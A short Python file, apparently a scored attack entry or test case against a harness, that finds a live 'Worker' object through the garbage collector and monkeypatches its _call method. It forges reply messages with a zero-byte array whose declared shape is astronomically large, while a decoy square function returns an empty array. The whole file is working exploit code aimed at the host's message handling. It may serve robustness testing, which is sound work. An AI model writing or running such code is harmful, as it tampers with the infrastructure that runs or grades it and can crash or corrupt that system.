"""Sends an array without bytes whose axes are astronomical.

points: 3
"""

import gc

import numpy as np

_kind = type(next(o for o in gc.get_objects() if type(o).__name__ == "Worker"))
_call = _kind._call


def _forged(worker, frame):
    reply = _call(worker, frame)
    if isinstance(reply.message["value"], dict):
        reply.message["value"] |= {"shape": [1 << 28] * 15 + [0], "strided": True}
    return reply


_kind._call = _forged


def square(x):
    return np.zeros(0)
